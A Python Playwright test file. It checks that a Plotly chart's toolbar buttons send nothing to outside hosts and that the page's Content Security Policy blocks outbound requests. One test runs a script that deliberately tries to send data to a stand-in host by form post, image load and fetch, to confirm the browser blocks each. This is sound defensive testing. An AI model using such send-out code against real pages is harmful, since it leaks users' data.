"""A chart in a browser: its buttons are known one by one, and none of them sends it anywhere."""

from __future__ import annotations

from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pytest
from app_world import wait_drawn

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

FLAT = [
    "Download plot as a PNG",
    "Zoom",
    "Pan",
    "Zoom in",
    "Zoom out",
    "Autoscale",
    "Reset axes",
]
SOLID = [
    "Download plot as a PNG",
    "Zoom",
    "Pan",
    "Orbital rotation",
    "Turntable rotation",
    "Reset camera to default",
]
TITLES = """chart => [...document.querySelectorAll(`#${chart} .modebar a, #${chart} .modebar button`)]
  .map(button => button.dataset.title || button.textContent)"""
CONTEXT = """chart => {
  const {plotlyServerURL, showSendToCloud, displaylogo} = document.querySelector(`#${chart} .chart`)._context;
  return {plotlyServerURL, showSendToCloud, displaylogo};
}"""

SEND_EVERYWHERE = """async () => {
  const blocked = new Set();
  const all = new Promise(done => document.addEventListener('securitypolicyviolation', event => {
    blocked.add(event.effectiveDirective);
    if (blocked.size === 3) done([...blocked].sort());
  }));
  const form = document.createElement('form');
  form.action = 'https://elsewhere.example/'; form.method = 'post';
  document.body.append(form);
  form.submit();
  new Image().src = 'https://elsewhere.example/x.png';
  const sent = await fetch('https://elsewhere.example/', {method: 'POST', body: 'plan'}).catch(() => null);
  if (sent) throw new Error('it was sent');
  return await all;
}"""


def only_here(page: Page) -> list[str]:
    """Give the list of what will have been asked of other hosts, and of windows that will have been
    opened.
    """
    elsewhere: list[str] = []

    def look(url: str) -> None:
        parts = urlsplit(url)
        if parts.scheme in ("http", "https", "ws", "wss") and parts.hostname not in (
            "127.0.0.1",
            "localhost",
        ):
            elsewhere.append(url)

    page.context.on("request", lambda request: look(request.url))
    page.context.on("page", lambda opened: elsewhere.append(f"a window at {opened.url}"))
    return elsewhere


@pytest.mark.everyday
def test_no_button_of_a_chart_sends_it_anywhere(browser_page: Page, app_url: str) -> None:
    elsewhere = only_here(browser_page)
    browser_page.goto(f"{app_url}/?study=small&tab=front")
    wait_drawn(browser_page)

    assert browser_page.evaluate(TITLES, "front-chart") == FLAT
    kept = {"plotlyServerURL": "", "showSendToCloud": False, "displaylogo": False}
    assert browser_page.evaluate(CONTEXT, "front-chart") == kept

    for title in FLAT:
        button = browser_page.locator(f"#front-chart .modebar [data-title='{title}']")
        button.dispatch_event("click")
    assert elsewhere == []
    assert browser_page.locator(".plotly-cloud-dialog").count() == 0


@pytest.mark.ci
def test_a_front_over_three_metrics_has_its_own_buttons(browser_page: Page, app_url: str) -> None:
    browser_page.goto(f"{app_url}/?study=small&tab=front")
    wait_drawn(browser_page)
    browser_page.get_by_label("Third axis", exact=True).click()
    browser_page.get_by_role("option", name="macs").click()
    solid = (
        "() => document.querySelector('#front-chart .chart').data.some(trace => trace.type ==="
        " 'scatter3d')"
    )
    browser_page.wait_for_function(solid)
    assert browser_page.evaluate(TITLES, "front-chart") == SOLID


@pytest.mark.ci
def test_the_policy_stops_what_a_script_would_send(browser: Browser, app_url: str) -> None:
    """Whatever plotly may learn to do one day: the browser itself refuses other hosts."""
    page = browser.new_page()
    page.goto(f"{app_url}/?study=small&tab=front")
    wait_drawn(page)
    assert page.evaluate(SEND_EVERYWHERE) == ["connect-src", "form-action", "img-src"]
    page.close()
